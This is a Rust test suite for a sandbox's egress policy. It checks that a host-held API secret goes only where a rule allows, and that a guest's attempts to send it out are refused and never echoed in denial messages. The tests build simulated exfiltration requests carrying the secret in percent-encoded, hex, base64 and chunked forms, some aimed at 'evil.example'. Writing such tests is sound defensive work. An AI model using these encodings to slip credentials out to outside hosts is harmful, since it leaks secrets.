//! Secrets go out where the policy says so, and nowhere else.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

use super::*;
use crate::policy::{SecretRef, SecretSource};
use crate::secret::SecretRequest;
use crate::tool::ErrorCode;

const SECRET: &str = "sk-live/北京+token=42";

fn secret_ref() -> SecretRef {
    SecretRef { header: "authorization".into(), format: "Bearer {}".into(), source: SecretSource::Env("TOKEN".into()) }
}

fn secrets() -> Secrets {
    let (rule, secret) = (rule(), secret_ref());
    let request = SecretRequest { plugin: "weather", rule: &rule, secret: &secret };
    Secrets::resolve([request], &|_| Some(SECRET.to_owned()), &|_| Err(io::Error::other("no file")), &|_, _| {
        Err(io::Error::other("no keyring"))
    })
    .expect("usable")
}

/// A rule for `/v1/` with a secret, and one for everything else without.
fn world(port: u16) -> World {
    let with_secret = NetGrant { path: "/v1/".to_owned(), secret: Some(secret_ref()), ..grant("api.example", port) };
    let grants = [grant("api.example", port), with_secret];
    World::with(&grants, Names::loopback(&["api.example"]), &Limits::default(), secrets(), LONG)
}

#[tokio::test]
async fn the_host_adds_the_secret_where_the_rule_says_so() {
    let mut server = Server::ok().await;
    let world = world(server.port);
    world.get(&format!("http://api.example:{}/v1/forecast", server.port)).await.expect("granted");
    let seen = server.next_request().await;
    assert_eq!(seen.matches(&format!("authorization: Bearer {SECRET}\r\n")).count(), 1, "{seen}");
    world.get(&format!("http://api.example:{}/other", server.port)).await.expect("granted");
    assert!(!server.next_request().await.contains("authorization"));
    assert!(world.meter.counts().denials.is_empty());
}

#[tokio::test]
async fn a_guest_cannot_set_the_header_that_the_host_fills() {
    let server = Server::ok().await;
    let world = world(server.port);
    let get =
        |path: &str| http::Request::get(format!("http://api.example:{}{path}", server.port)).header("Authorization", "mine");
    let error = world.fetch(get("/v1/").body(text_body("")).expect("a request"), None).await.expect_err("refused");
    assert!(matches!(error, Error::HttpRequestDenied), "{error:?}");
    assert!(world.denial().message.contains("the host itself fills the header `authorization` (policy.toml:12)"));
    assert_eq!(server.accepts().await, 0);
    world.fetch(get("/other").body(text_body("")).expect("a request"), None).await.expect("elsewhere it is the guest's own");
}

#[tokio::test]
async fn a_known_secret_in_any_part_of_a_request_is_refused_and_nothing_is_sent() {
    let server = Server::ok().await;
    let percent: String = SECRET.bytes().map(|byte| format!("%{byte:02X}")).collect();
    let encoded = STANDARD.encode(format!("user:{SECRET}"));
    let hex: String = SECRET.bytes().map(|byte| format!("{byte:02x}")).collect();
    let url = format!("http://api.example:{}", server.port);
    let post = || http::Request::post(format!("{url}/other"));
    for (place, request) in [
        ("address", http::Request::get(format!("{url}/other/{percent}")).body(text_body(""))),
        ("address", http::Request::get(format!("{url}/other?q={hex}")).body(text_body(""))),
        ("head", post().header("x-data", http::HeaderValue::from_bytes(SECRET.as_bytes()).expect("bytes")).body(text_body(""))),
        ("head", post().header("authorization", format!("Basic {encoded}")).body(text_body(""))),
        ("head", post().header(format!("x-{hex}"), "1").body(text_body(""))),
        ("body", post().body(text_body(format!("{{\"data\":\"{SECRET}\"}}")))),
        ("body", post().body(text_body(format!("data={percent}")))),
        ("body", post().body(pieces(SECRET.bytes().map(|byte| vec![byte])))),
        ("body", post().body(pieces(encoded.bytes().map(|byte| vec![byte])))),
    ] {
        let world = world(server.port);
        let error = world.fetch(request.expect("a request"), None).await.expect_err(place);
        assert!(matches!(error, Error::HttpRequestDenied), "{place}: {error:?}");
        let denial = world.denial();
        assert_eq!(denial.code, ErrorCode::HTTP_DENIED);
        assert!(denial.message.ends_with(&format!("its {place} holds a secret of this host")), "{}", denial.message);
        let text = format!("{denial:?} {error:?}");
        for form in [SECRET, &percent, &encoded, &hex] {
            assert!(!text.contains(form), "{text}");
        }
        assert_eq!(world.names.lookups(), [""; 0], "{place}");
    }
    assert_eq!(server.accepts().await, 0);
}

#[tokio::test]
async fn a_secret_deep_in_a_long_body_does_not_leave() {
    let mut server = Server::ok().await;
    let world = world(server.port);
    // Each piece holds a few bytes of it, far behind what is read ahead.
    let long = (0..200).map(|_| vec![b'x'; 1000]).chain(SECRET.as_bytes().chunks(3).map(<[u8]>::to_vec));
    let post = http::Request::post(format!("http://api.example:{}/other", server.port)).body(pieces(long)).expect("a request");
    let error = world.fetch(post, None).await.expect_err("refused");
    assert!(matches!(error, Error::HttpRequestDenied), "{error:?}");
    assert!(world.denial().message.contains("its body holds a secret"));
    let seen = server.next_request().await;
    assert!(seen.len() > 100_000 && !seen.contains("sk-"), "{}", &seen[seen.len() - 100..]);
}

#[tokio::test]
async fn a_long_body_without_secrets_arrives_whole() {
    let mut server = Server::ok().await;
    let world = world(server.port);
    let post = http::Request::post(format!("http://api.example:{}/v1/", server.port))
        .header("content-length", "200000")
        .body(pieces((0..200).map(|_| vec![b'x'; 1000])))
        .expect("a request");
    world.fetch(post, None).await.expect("granted");
    let seen = server.next_request().await;
    assert_eq!(seen.matches('x').count(), 200_000 + "api.example".matches('x').count() + "x-".len() - 2);
}

#[tokio::test]
async fn denials_do_not_repeat_a_secret() {
    let world = world(80);
    let percent: String = SECRET.bytes().map(|byte| format!("%{byte:02X}")).collect();
    world.get(&format!("http://evil.example/{percent}/x")).await.expect_err("denied");
    world.get(&format!("http://u:p@evil.example/{percent}/x")).await.expect_err("denied");
    let denials = world.meter.counts().denials;
    assert_eq!(denials.len(), 2);
    let redactor = secrets().redactor().clone();
    for denial in denials {
        assert!(!redactor.contains(denial.message.as_bytes()), "{}", denial.message);
        assert!(!redactor.contains(denial.hint.unwrap_or_default().as_bytes()), "{}", denial.message);
    }
}

#[test]
fn a_rule_whose_secret_cannot_be_sent_is_an_error() {
    let refused = |secret: SecretRef, secrets: Secrets| {
        let grant = NetGrant { secret: Some(secret), ..grant("api.example", 80) };
        let names: Arc<dyn Resolver> = Arc::new(Names::default());
        EgressShared::new("weather", &[grant], names, tls::client(), Arc::new(secrets)).expect_err("refused").to_string()
    };
    assert!(
        refused(secret_ref(), Secrets::default()).starts_with("policy.toml:12: plugin `weather` has a secret that was not read")
    );
    for (header, format) in [("host", "{}"), ("bad name", "{}"), ("connection", "{}"), ("authorization", "a\r\n{}")] {
        let error = refused(SecretRef { header: header.into(), format: format.into(), ..secret_ref() }, secrets());
        assert!(error.contains(&format!("cannot send its secret in the header `{header}`")), "{error}");
        assert!(!error.contains("sk-"), "{error}");
    }
}
